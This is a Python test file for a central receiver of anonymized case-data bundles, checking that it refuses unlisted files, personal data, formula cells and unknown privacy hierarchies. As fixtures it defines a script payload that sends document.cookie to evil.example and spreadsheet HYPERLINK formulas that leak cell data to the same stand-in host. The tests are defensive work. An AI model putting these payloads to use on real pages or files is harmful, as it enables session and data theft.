"""The receiver trusts nothing in an upload (issue 13, items 7-10): only a release's own files, only
allowed cell values, only known hierarchies, bounded memory, strict headers and auth."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import datetime, timezone

from connector.central.cells import cell_problems, column_rules, escape_csv, is_formula
from connector.release import Bundle, build_bundle
from connector.schema import load_schema
from privacy.gate import admit
from tests.unit.test_central_app import Central, central, database_url  # noqa: F401 - fixtures
from tests.unit.test_central_fixtures import make_bundle, protected

RAW = b"name,phone\nAnna Petrenko,+380501234567\n"
EVIL = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"


def _with_listed_extras(files: dict[str, bytes], extras: dict[str, bytes]) -> dict[str, bytes]:
    """The bundle plus `extras`, each listed in the manifest with its true checksum (the release id
    does not cover them, so it stays valid): only the file-set check can catch them."""
    manifest = json.loads(files["manifest.json"])
    for name, content in extras.items():
        manifest["files"][name] = {"sha256": hashlib.sha256(content).hexdigest(), "bytes": len(content)}
    return {**files, **extras, "manifest.json": json.dumps(manifest).encode()}


def test_files_listed_in_the_manifest_but_not_of_a_release_are_refused_and_never_served(central):
    bundle = make_bundle("ngo-a")
    files = _with_listed_extras(bundle.files, {"raw-cases.csv": RAW, "evil.html": EVIL})
    response = central.upload(files, key=bundle.release_id)
    assert response.status_code == 422, response.text
    reasons = " ".join(response.json()["detail"]["reasons"])
    assert "raw-cases.csv" in reasons and "Anna" not in response.text  # refused at the first part it does not know
    assert central.stored() == (0, [])
    for name in ("raw-cases.csv", "evil.html"):
        assert central.client.get(f"/releases/{bundle.release_id}/files/{name}", headers=central.auth("admin")).status_code == 404


def test_a_file_listed_only_in_the_manifest_is_refused_by_name(tmp_path):
    from connector.central.validate import UploadRefused, check_upload
    from connector.schema import load_schema

    bundle = make_bundle("ngo-a")
    manifest = json.loads(bundle.files["manifest.json"])
    manifest["files"]["evil.html"] = {"sha256": hashlib.sha256(EVIL).hexdigest(), "bytes": len(EVIL)}
    files = {**bundle.files, "manifest.json": json.dumps(manifest).encode()}
    try:
        check_upload(files, partner="ngo-a", schema=load_schema())
    except UploadRefused as exc:
        assert exc.status == 422 and "not part of a release" in exc.error and any("evil.html" in r for r in exc.reasons)
    else:
        raise AssertionError("a manifest listing evil.html was accepted")


def test_the_receiver_still_accepts_exactly_a_release(central):
    bundle = make_bundle("ngo-a")
    assert central.upload(bundle).status_code == 201
    detail = central.client.get(f"/releases/{bundle.release_id}", headers=central.auth("admin")).json()
    assert {f["name"] for f in detail["files"]} == {"data.csv", "datapackage.json", "codebook.md", "privacy.json", "report.html", "manifest.json"}


# -- item 8: every column has a closed set of allowed values ----------------------------------

PERSONAL = ["Anna Petrenko", "+380501234567", "anna.p@example.org"]
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


def bundle_with(partner: str, change) -> Bundle:
    """A bundle made the production way (anonymize, the connector's gate, build_bundle) from a
    table that `change(table)` edited: the connector's own checks pass it, only the receiver's can
    refuse it."""
    schema = load_schema()
    table, privacy = protected(partner, 3)
    change(table)
    release = admit(table, privacy, roles=schema.view_roles())
    return build_bundle(release, partner=partner, schema=schema, run_ids=["run-1"], created_at=datetime(2024, 5, 1, tzinfo=timezone.utc))


def _reasons(response) -> str:
    return " ".join(response.json()["detail"]["reasons"])


def test_personal_data_in_datasource_is_refused_by_column_and_count_never_by_value(central):
    def change(table):
        table["Datasource"] = [PERSONAL[i % 3] for i in range(len(table))]

    response = central.upload(bundle_with("ngo-a", change))
    assert response.status_code == 422, response.text
    assert "column Datasource: 12 cell(s) are not allowed values" in _reasons(response)
    assert not any(value in response.text for value in (*PERSONAL, "Petrenko", "380501234567", "example.org"))
    assert central.stored() == (0, [])


def test_formula_cells_are_refused_at_upload(central):
    def change(table):
        table["Datasource"] = FORMULA

    response = central.upload(bundle_with("ngo-a", change))
    assert response.status_code == 422, response.text
    assert "column Datasource: 12 cell(s) begin with =, +, -, @" in _reasons(response)
    assert "HYPERLINK" not in response.text and central.stored() == (0, [])


def test_datasource_comes_from_the_partner_registry(tmp_path, database_url):
    central = Central(tmp_path, database_url)
    try:
        from connector.central.auth import add_partner

        token = add_partner(central.app.state.engine, "hotline-ua", datasources=["Hotline"])
        central.tokens["hotline-ua"] = token
        # the same bundle, under this partner: its cells say Case Management, the registry says Hotline
        response = central.upload(_as_partner("hotline-ua", "Case Management"), who="hotline-ua")
        assert response.status_code == 422 and "column Datasource: 12 cell(s)" in _reasons(response)
        assert central.upload(_as_partner("hotline-ua", "Hotline"), who="hotline-ua").status_code == 201
    finally:
        central.client.close()
        central.app.state.engine.dispose()


def _as_partner(partner: str, datasource: str) -> Bundle:
    schema = load_schema()
    table, privacy = protected("ngo-a", 3)
    table["Datasource"] = datasource
    release = admit(table, privacy, roles=schema.view_roles())
    return build_bundle(release, partner=partner, schema=schema, run_ids=["run-1"], created_at=datetime(2024, 5, 1, tzinfo=timezone.utc))


def test_every_view_column_has_a_closed_rule():
    rules = column_rules(load_schema(), ["Case Management"])
    assert set(rules) == set(load_schema().view)
    checks = {
        "gender": (["Female", "Other"], ["female", "Anna"]),
        "ageBroad": (["0", "31", "120", "30--34", "48+", "Minor", "Adult", "18--20"], ["31.0", " 31", "121", "-1", "30-34", "=1"]),
        "yearOfRegistration": (["2021", "2020-2021", "2020-2024", "2024"], ["2021.0", "1899", "2020--2021"]),
        "citizenship": (["UA", "Eastern Europe", "Europe"], ["Ukraine", "ua", "XX"]),
        "meansOfControlDebtBondage": (["0", "1"], ["2", "yes", "1.0"]),
        "meansOfControlConcatenated": (["meansOfControlDebtBondage", "meansOfControlThreats;meansOfControlDebtBondage"],
                                       ["meansOfControlDebtBondage;meansOfControlDebtBondage", "isForcedLabour", "a;b"]),
        "RecruiterRelationship": (["Friend", "Family;Friend"], ["Neighbour", "Friend;"]),
        "meansOfControlRestrictsMovement": ([], []),
        "Datasource": (["Case Management"], ["Hotline", "Anna"]),
    }
    for column, (good, bad) in checks.items():
        assert all(rules[column].allows(v) for v in good), column
        assert not any(rules[column].allows(v) for v in bad), column


def test_a_column_may_mix_hierarchy_levels_blank_and_suppressed_cells():
    rules = column_rules(load_schema(), ["Case Management"])
    header = ["ageBroad", "citizenship", "isForcedLabour", "typeOfExploitConcatenated"]
    rows = [["31", "UA", "1", "isForcedLabour"], ["30--34", "Eastern Europe", "*", "*"], ["*", "*", "", ""], ["Adult", "Europe", "0", "isForcedLabour;isSexualExploit"]]
    assert cell_problems(header, rows, rules) == []
    rows.append(["Anna", "+380501234567", "-1", "@SUM(A1)"])
    problems = cell_problems(header, rows, rules)
    # +380501234567 and -1 are numbers to a spreadsheet, so only @SUM(A1) is a formula cell
    assert [p.split(":")[0] for p in problems] == ["column ageBroad", "column citizenship", "column isForcedLabour", "column typeOfExploitConcatenated",
                                                   "column typeOfExploitConcatenated"]
    assert not any(v in " ".join(problems) for v in ("Anna", "380501234567", "SUM"))


def test_formula_cells_are_escaped_when_served_even_if_stored_before_the_check(central):
    bundle = make_bundle("ngo-a")
    assert central.upload(bundle).status_code == 201
    planted = bundle.files["data.csv"].replace(b"Case Management", b'"=HYPERLINK(""https://evil.example"",""x"")"')
    sha = hashlib.sha256(bundle.files["data.csv"]).hexdigest()
    (central.data_dir / "objects" / sha[:2] / sha).write_bytes(planted)
    served = central.client.get(f"/releases/{bundle.release_id}/files/data.csv", headers=central.auth("admin"))
    harmonized = central.client.get("/harmonized.csv", headers=central.auth("admin"))
    for response in (served, harmonized):
        assert response.status_code == 200, response.text
        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        assert "'=HYPERLINK(\"https://evil.example\",\"x\")" in cells
        assert not any(is_formula(cell) for cell in cells)


def test_escape_leaves_numbers_and_clean_bytes_alone():
    clean = b"a,b\n-1,2\n+3.5,1e-3\n"
    assert escape_csv(clean) == clean
    assert escape_csv(b"a\n-x\n@y\n\"\tz\"\n") == b"a\n'-x\n'@y\n'\tz\n"


# -- item 9: an unknown hierarchy or level is refused -------------------------------------------


def bundle_claiming(change_privacy, change_table=None) -> Bundle:
    """A gate-admitted bundle whose privacy record `change_privacy` edited (as a partner's own
    hierarchy config would write it)."""
    schema = load_schema()
    table, privacy = protected("ngo-a", 3)
    if change_table:
        change_table(table)
    change_privacy(privacy)
    release = admit(table, privacy, roles=schema.view_roles())
    return build_bundle(release, partner="ngo-a", schema=schema, run_ids=["run-1"], created_at=datetime(2024, 5, 1, tzinfo=timezone.utc))


def test_a_quasi_identifier_with_an_unknown_hierarchy_is_refused_with_the_reason(central):
    bundle = bundle_claiming(lambda p: p["hierarchies"].update(citizenship="my-countries"))
    response = central.upload(bundle)
    assert response.status_code == 422, response.text
    assert "column citizenship: privacy.json names hierarchy 'my-countries', which this receiver does not know" in _reasons(response)
    assert central.stored() == (0, [])


def test_a_name_in_citizenship_under_an_unknown_hierarchy_is_refused_without_showing_it(central):
    def names(table):  # a whole equivalence class, so k still holds and only the receiver's checks can see it
        table.loc[table["citizenship"] == "MD", "citizenship"] = "Anna Petrenko"

    bundle = bundle_claiming(lambda p: p["hierarchies"].update(citizenship="names"), names)
    response = central.upload(bundle)
    assert response.status_code == 422, response.text
    reasons = _reasons(response)
    assert "hierarchy 'names', which this receiver does not know" in reasons and "column citizenship: 6 cell(s) are not allowed values" in reasons
    assert "Anna" not in response.text and central.stored() == (0, [])


def test_a_hierarchy_other_than_the_columns_own_or_a_level_it_does_not_have_is_refused(central):
    wrong = central.upload(bundle_claiming(lambda p: p["hierarchies"].update(citizenship="age")))
    assert wrong.status_code == 422 and "generalizes it with 'country'" in _reasons(wrong)
    odd_level = central.upload(bundle_claiming(lambda p: p["levels"].update(gender=True)))
    assert odd_level.status_code == 422 and "column gender: privacy.json level 'True' is not a level of hierarchy gender" in _reasons(odd_level)
    assert central.stored() == (0, [])
